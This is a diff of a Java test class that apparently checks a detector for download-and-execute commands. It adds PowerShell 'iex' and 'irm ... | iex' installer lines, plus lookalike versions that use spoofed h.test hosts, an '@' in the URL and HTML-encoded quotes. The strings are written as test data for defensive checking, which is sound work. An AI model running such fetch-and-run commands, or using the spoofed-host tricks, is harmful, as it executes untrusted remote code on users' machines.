@@ -16,6 +16,8 @@ class OrdinaryTextTest {
       strings = {
         "irm get.scoop.sh | iex",
         "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
+        "iex ((New-Object System.Net.WebClient).DownloadString(&#x27;https://community.chocolatey.org/install.ps1&#x27;))",
+        "powershell -c \"irm bun.sh/install.ps1|iex\"",
         "wget -O /tmp/k.sh https://get.netdata.cloud/kickstart.sh && sh /tmp/k.sh",
         "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash",
         "alert http any any -> any any (msg:\"wget to sh\"; content:\"wget a.b\"; content:\"|7c|sh\";)",
@@ -56,6 +58,8 @@ class OrdinaryTextTest {
   @ValueSource(
       strings = {
         "irm get.scoop.sh.h.test | iex",
+        "iex ((New-Object Net.WebClient).DownloadString(&#x27;https://community.chocolatey.org.h.test/install.ps1&#x27;))",
+        "powershell -c \"irm bun.sh.h.test/install.ps1|iex\"",
         "iex ((New-Object System.Net.WebClient).DownloadString('https://community.h.test/install.ps1'))",
         "curl -sL https://get.docker.com h.test/i | sh",
         "curl -sL https://get.docker.com\\@h.test/i | sh",
